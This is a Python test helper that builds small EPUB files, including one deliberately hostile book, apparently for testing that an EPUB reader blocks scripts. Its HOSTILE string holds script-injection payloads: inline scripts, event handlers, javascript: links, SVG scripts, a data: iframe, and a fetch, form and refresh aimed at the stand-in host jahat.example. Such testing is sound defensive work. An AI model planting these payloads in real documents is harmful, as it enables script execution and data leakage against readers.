"""A small EPUB made by hand, for tests."""

import io
import zipfile

CONTAINER = (
    '<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container" version="1.0"><rootfiles>'
    '<rootfile full-path="OPS/package.opf" media-type="application/oebps-package+xml"/></rootfiles></container>'
)
PACKAGE = """<package xmlns="http://www.idpf.org/2007/opf" version="3.0" unique-identifier="id">
<metadata xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:identifier id="id">urn:x:1</dc:identifier><dc:title>{title}</dc:title>
<dc:language>id</dc:language></metadata><manifest><item id="n" href="nav.xhtml" media-type="application/xhtml+xml" properties="nav"/>
{items}</manifest><spine>{refs}</spine></package>"""
PAGE = (
    '<?xml version="1.0" encoding="utf-8"?><html xmlns="http://www.w3.org/1999/xhtml" xmlns:epub="http://www.idpf.org/2007/ops">'
    "<head><title>{title}</title></head><body>{body}</body></html>"
)


def an_epub(*chapters: str, title: str = "Buku uji") -> bytes:
    """An EPUB 3 with a chapter for each text, whose paragraphs are parted by line ends."""
    texts = chapters or ("Satu paragraf.",)
    items = "".join(f'<item id="c{n}" href="c{n}.xhtml" media-type="application/xhtml+xml"/>' for n in range(1, len(texts) + 1))
    refs = "".join(f'<itemref idref="c{n}"/>' for n in range(1, len(texts) + 1))
    lines = "".join(f'<li><a href="c{n}.xhtml">Bab {n}</a></li>' for n in range(1, len(texts) + 1))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as book:
        book.writestr("mimetype", "application/epub+zip")
        book.writestr("META-INF/container.xml", CONTAINER)
        book.writestr("OPS/package.opf", PACKAGE.format(title=title, items=items, refs=refs))
        book.writestr("OPS/nav.xhtml", PAGE.format(title="Isi", body=f'<nav epub:type="toc"><ol>{lines}</ol></nav>'))
        for n, text in enumerate(texts, 1):
            body = f"<h1>Bab {n}</h1>" + "".join(f"<p>{line}</p>" for line in text.splitlines())
            book.writestr(f"OPS/c{n}.xhtml", PAGE.format(title=f"Bab {n}", body=body))
    return out.getvalue()


def with_member(book: bytes, name: str, content: bytes | str) -> bytes:
    """The same book with another entry in it."""
    out = io.BytesIO(book)
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr(name, content)
    return out.getvalue()


HOSTILE = """<script>top.document.title = "diambil"; top.taken = "inline"; fetch("https://jahat.example/a")</script>
<script src="jahat.js"></script><p onclick="top.taken = 'onclick'" id="tekan">Padi ditumbuk.</p>
<img src="x" onerror="top.taken = 'onerror'" alt=""/><a id="tautan" href="javascript:top.taken = 'link'">tautan</a>
<svg xmlns="http://www.w3.org/2000/svg" onload="top.taken = 'svg'"><script>top.taken = "svg script"</script></svg>
<iframe src="data:text/html,&lt;script&gt;top.taken='frame'&lt;/script&gt;"></iframe>
<object data="jahat.svg" type="image/svg+xml"></object><embed src="jahat.svg" type="image/svg+xml"/>
<form action="https://jahat.example/b"><button id="kirim">Kirim</button></form>
<meta http-equiv="refresh" content="0;url=https://jahat.example/c"/>"""


def a_hostile_epub() -> bytes:
    """A book that tries by every way we know to act on the page that shows it, and to tell somebody outside."""
    book = with_member(an_epub(HOSTILE), "OPS/jahat.js", "top.taken = 'js'")
    picture = '<svg xmlns="http://www.w3.org/2000/svg"><script>top.taken = "picture"</script></svg>'
    return with_member(book, "OPS/jahat.svg", picture)
